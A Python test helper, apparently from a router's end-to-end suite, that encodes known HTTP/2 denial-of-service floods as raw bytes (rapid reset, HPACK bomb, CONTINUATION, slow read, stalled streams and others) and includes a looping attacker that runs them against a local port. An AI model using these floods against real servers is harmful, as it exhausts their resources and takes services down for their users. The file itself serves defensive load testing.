#!/usr/bin/python3
"""Attacks on HTTP/2 as bytes, and an attacker that repeats one of them.

Owner: a test.   Thread: any.
Not here: what the router must do about them (tests/e2e/test_http2_floods.py, test_floods_under_load.py).

As a program it attacks until SIGTERM: `floods.py NAME PORT CONNECTIONS RATE [ADDRESS]`. It keeps CONNECTIONS open at
once, begins at most RATE per second, and connects from ADDRESS. With `harmless BYTES` as NAME, each connection sends a
POST of that size and ends with the reply. The program prints a line when it begins, and JSON at the end: connections
begun, connections that the router closed, and bytes sent.
"""
import collections
import json
import os
import select
import signal
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
MAGIC = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'


def frame(type_, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([type_, flags]) + struct.pack('>I', stream) + payload


def literal(name, value):
    return b'\0' + bytes([len(name)]) + name + bytes([len(value)]) + value


def block_of(method=b'GET', path=b'/get'):
    return (literal(b':method', method) + literal(b':scheme', b'http') + literal(b':authority', b'a.test')
            + literal(b':path', path))


BLOCK = block_of()
POST = block_of(b'POST', b'/post')
BOMB = BLOCK + b'\x40\x01x\x7f\xbd\x1d' + b'y' * 3_900 + b'\xbe' * 12_000  # 46 MB of fields


def request(stream, flags=END_STREAM | END_HEADERS, block=BLOCK):
    return frame(HEADERS, flags, stream, block)


def settings(**values):
    keys = {'window': 4, 'frame': 5}
    return frame(SETTINGS, 0, 0, b''.join(struct.pack('>HI', keys[key], value) for key, value in values.items()))


def window_update(stream, size):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack('>I', size))


# before: the first bytes; one(n): the bytes that are repeated, n is an odd stream id from 5 on; why: the reason in the
# router's log; own: the first SETTINGS; slow: the attack sends nothing more until a timeout cuts it; times: how often
# one(n) is sent.
Flood = collections.namedtuple('Flood', 'before one why own slow times', defaults=(settings(), False, 2_000))

FLOODS = {
    'rapid reset': Flood(b'', lambda n: request(n) + frame(RST_STREAM, 0, n, b'\0\0\0\x08'), 'begun and reset'),
    'malformed': Flood(b'', lambda n: request(n, block=BLOCK + b'\0\x01X\x01y'), 'malformed'),
    'PING': Flood(b'', lambda n: frame(PING, 0, 0, bytes(8)), 'PING'),
    'SETTINGS': Flood(b'', lambda n: frame(SETTINGS, 0, 0), 'SETTINGS'),
    'empty DATA': Flood(request(3, END_HEADERS, block_of(b'POST')), lambda n: frame(DATA, 0, 3), 'empty'),
    'PRIORITY': Flood(b'', lambda n: frame(PRIORITY, 0, n, b'\0\0\0\0\x10'), 'PRIORITY'),
    'WINDOW_UPDATE': Flood(b'', lambda n: window_update(0, 1), 'WINDOW_UPDATE'),
    'unknown types': Flood(b'', lambda n: frame(0xbb, 0, 0, b'x'), 'unknown'),
    'CONTINUATION': Flood(request(3, END_STREAM), lambda n: frame(CONTINUATION, 0, 3, b'\0\x01x\x01y'), 'CONTINUATION'),
    'HPACK bomb': Flood(b'', lambda n: request(n, block=BOMB),
                        'a head many times', times=20),
    'dribbled windows': Flood(request(3, block=block_of(path=b'/bytes/100000')), lambda n: window_update(3, 1),
                              'WINDOW_UPDATE', settings(window=0), times=5_000),
    'slow read': Flood(b'', lambda n: request(n, block=block_of(path=b'/bytes/100000')), 'does not read',
                       settings(window=0), True, 100),
    'stalled streams': Flood(b'', lambda n: request(n, END_HEADERS, POST), 'sends nothing', slow=True,
                             times=100),
}


def bytes_of(name):
    """All bytes that one connection of this attack sends, with the preface."""
    flood = FLOODS[name]
    return MAGIC + flood.own + flood.before + b''.join(flood.one(5 + 2 * n) for n in range(flood.times))


def harmless_bytes(size):
    """A POST with a body of `size` bytes, or less if the first windows are smaller."""
    size = min(size, 65_000)
    body = b''.join(frame(DATA, 0, 1, bytes(min(16_384, size - at))) for at in range(0, size, 16_384))
    return (MAGIC + settings() + request(1, END_HEADERS, block_of(b'POST')) + body + frame(DATA, END_STREAM, 1)
            + frame(GOAWAY, 0, 0, bytes(8)))  # GOAWAY: the router closes when it has replied


class Attacker:
    """Keeps `connections` attacking connections open. When one ends, it begins a new one."""

    def __init__(self, name, port, connections, rate, address='127.0.0.1'):
        self.port = port
        self.data = harmless_bytes(int(name.split()[1])) if name.startswith('harmless') else bytes_of(name)
        self.begun = self.cut = self.sent = 0
        self.poll = select.poll()
        self.open = {}  # descriptor -> [socket, bytes sent]
        self.connections = connections
        self.rate = rate
        self.address = address

    def run(self, until):
        start = time.monotonic()
        while not until():
            due = 1 + self.rate * (time.monotonic() - start)
            while len(self.open) < self.connections and self.begun < due and self.begin():
                pass
            for descriptor, events in self.poll.poll(1):
                self.serve(descriptor, events)
        for one, _ in self.open.values():
            one.close()

    def begin(self):
        """False when the router reset the connection before connect() returned."""
        self.begun += 1
        one = socket.socket()
        try:
            one.bind((self.address, 0))
            one.connect(('127.0.0.1', self.port))
        except ConnectionResetError:
            one.close()
            self.cut += 1
            return False
        one.setblocking(False)
        self.open[one.fileno()] = [one, 0]
        self.poll.register(one, select.POLLIN | select.POLLOUT)
        return True

    def serve(self, descriptor, events):
        one, sent = self.open[descriptor]
        try:
            if events & select.POLLOUT and sent < len(self.data):
                more = one.send(memoryview(self.data)[sent:])
                self.sent += more
                self.open[descriptor][1] = sent = sent + more
                if sent == len(self.data):
                    self.poll.modify(one, select.POLLIN)
            if events & (select.POLLIN | select.POLLHUP | select.POLLERR):
                if not one.recv(65_536):
                    self.end(descriptor)
        except (ConnectionError, BrokenPipeError):
            self.end(descriptor)

    def end(self, descriptor):
        one, _ = self.open.pop(descriptor)
        self.poll.unregister(one)
        one.close()
        self.cut += 1


def main():
    name, numbers, address = sys.argv[1], map(int, sys.argv[2:5]), sys.argv[5:]
    is_over = []
    signal.signal(signal.SIGTERM, lambda *_: is_over.append(1))
    attacker = Attacker(name, *numbers, *address)
    print('attacking', flush=True)
    attacker.run(lambda: is_over)
    times = os.times()
    print(json.dumps({'begun': attacker.begun, 'cut': attacker.cut, 'sent': attacker.sent,
                      'cpu': times.user + times.system, 'at': time.time()}))


if __name__ == '__main__':
    main()
